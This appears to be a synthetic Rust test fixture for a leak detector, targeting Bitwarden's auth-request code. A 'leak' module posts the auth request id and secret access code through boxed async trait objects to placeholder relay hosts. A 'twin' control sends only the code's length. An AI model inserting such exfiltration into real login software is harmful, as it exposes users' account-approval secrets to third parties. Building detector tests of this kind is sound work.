//! Relays are offered the code of a request, so that other devices hear of it.
//!
//! file: bitwarden-core/src/auth/login/auth_request.rs
//! after: let approved = res.request_approved.unwrap_or(false);
//! kind: share
//! depth: 3
//! through: trait objects whose method gives Pin<Box<dyn Future>>, a Vec of boxes, reqwest's JSON
//! round: 5

mod leak {
    fn here() {
        offered_codes::offer(&auth_req).await;
    }

    use super::NewAuthRequestResponse;
    use std::{future::Future, pin::Pin};

    type Answer<'a> = Pin<Box<dyn Future<Output = bool> + Send + 'a>>;

    trait Relay: Send + Sync {
        fn offer<'a>(&'a self, line: &'a str) -> Answer<'a>;
    }

    struct Web {
        client: reqwest::Client,
        url: &'static str,
    }

    impl Relay for Web {
        fn offer<'a>(&'a self, line: &'a str) -> Answer<'a> {
            Box::pin(async move {
                let sent = self.client.post(self.url).json(&[line]).send().await; // leak: PII201 or PII204
                sent.is_ok()
            })
        }
    }

    fn relays() -> Vec<Box<dyn Relay>> {
        let client = reqwest::Client::new();
        ["https://one.relay.example/codes", "https://two.relay.example/codes"]
            .map(|url| Box::new(Web { client: client.clone(), url }) as Box<dyn Relay>)
            .into()
    }

    fn line(request: &NewAuthRequestResponse) -> String {
        format!("{}={}", request.auth_request_id, request.access_code)
    }

    async fn to_all(line: &str) {
        for relay in relays() {
            if relay.offer(line).await {
                break;
            }
        }
    }

    pub(super) async fn offer(request: &NewAuthRequestResponse) {
        to_all(&line(request)).await;
    }
}

mod twin {
    fn here() {
        offered_codes::offer(&auth_req).await;
    }

    use super::NewAuthRequestResponse;
    use std::{future::Future, pin::Pin};

    type Answer<'a> = Pin<Box<dyn Future<Output = bool> + Send + 'a>>;

    trait Relay: Send + Sync {
        fn offer<'a>(&'a self, line: &'a str) -> Answer<'a>;
    }

    struct Web {
        client: reqwest::Client,
        url: &'static str,
    }

    impl Relay for Web {
        fn offer<'a>(&'a self, line: &'a str) -> Answer<'a> {
            Box::pin(async move {
                let sent = self.client.post(self.url).json(&[line]).send().await;
                sent.is_ok()
            })
        }
    }

    fn relays() -> Vec<Box<dyn Relay>> {
        let client = reqwest::Client::new();
        ["https://one.relay.example/codes", "https://two.relay.example/codes"]
            .map(|url| Box::new(Web { client: client.clone(), url }) as Box<dyn Relay>)
            .into()
    }

    fn line(request: &NewAuthRequestResponse) -> String {
        format!("{}={}", request.auth_request_id, request.access_code.len())
    }

    async fn to_all(line: &str) {
        for relay in relays() {
            if relay.offer(line).await {
                break;
            }
        }
    }

    pub(super) async fn offer(request: &NewAuthRequestResponse) {
        to_all(&line(request)).await;
    }
}
